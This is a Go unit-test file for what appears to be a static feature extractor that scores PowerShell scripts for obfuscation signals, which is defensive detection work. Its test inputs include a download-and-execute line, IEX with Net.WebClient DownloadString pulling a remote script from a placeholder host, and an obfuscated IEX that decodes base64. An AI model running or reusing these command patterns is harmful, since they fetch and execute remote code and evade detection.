package features

import (
	"context"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestExtract_VectorMatchesSchema(t *testing.T) {
	e := NewExtractor(nil)
	vector, err := e.Extract(context.Background(), "Write-Host 'hello'")
	require.NoError(t, err)
	assert.Len(t, vector, SchemaSize)
	assert.Len(t, FeatureNames, SchemaSize)
}

func TestExtract_EmptyScriptFailsLoudly(t *testing.T) {
	e := NewExtractor(nil)
	_, err := e.Extract(context.Background(), "")
	assert.Error(t, err)
}

func TestExtract_Deterministic(t *testing.T) {
	e := NewExtractor(nil)
	script := `IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')`

	first, err := e.Extract(context.Background(), script)
	require.NoError(t, err)
	second, err := e.Extract(context.Background(), script)
	require.NoError(t, err)
	assert.Equal(t, first, second)
}

func TestExtract_ObfuscationSignals(t *testing.T) {
	e := NewExtractor(nil)
	ctx := context.Background()

	plain, err := e.Extract(ctx, "Get-ChildItem -Path C:\\Users | Sort-Object Name")
	require.NoError(t, err)

	obfuscated, err := e.Extract(ctx,
		"&('I'+'E'+'X')(('dwBy'+'aXRl')|%{[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($_))})")
	require.NoError(t, err)

	idx := func(name string) int {
		for i, n := range FeatureNames {
			if n == name {
				return i
			}
		}
		t.Fatalf("unknown feature %q", name)
		return -1
	}

	// String concatenation, plus signs and quote churn are the classic
	// obfuscator fingerprints; the vectors must separate on them.
	assert.Greater(t, obfuscated[idx("freq_plus")], plain[idx("freq_plus")])
	assert.Greater(t, obfuscated[idx("concat_density")], plain[idx("concat_density")])
	assert.Greater(t, obfuscated[idx("freq_quote_single")], plain[idx("freq_quote_single")])
	assert.Less(t, obfuscated[idx("ratio_whitespace")], plain[idx("ratio_whitespace")])
}

func TestEntropy(t *testing.T) {
	assert.Equal(t, 0.0, entropy("aaaaaaaa"))
	assert.InDelta(t, 1.0, entropy("abababab"), 1e-12)
	assert.Greater(t, entropy("a8$Kq!zP0x"), entropy("aaaaabbbbb"))
}

func TestLongestRun(t *testing.T) {
	assert.Equal(t, 0, longestRun("----", isHexRune))
	assert.Equal(t, 6, longestRun("zz deadbe zz", isHexRune))
	b64 := strings.Repeat("QUJD", 10) + "=="
	assert.Equal(t, 42, longestRun("!"+b64+"!", isBase64Rune))
}

func TestExtractorName(t *testing.T) {
	assert.Equal(t, "static-v1", NewExtractor(nil).Name())
}
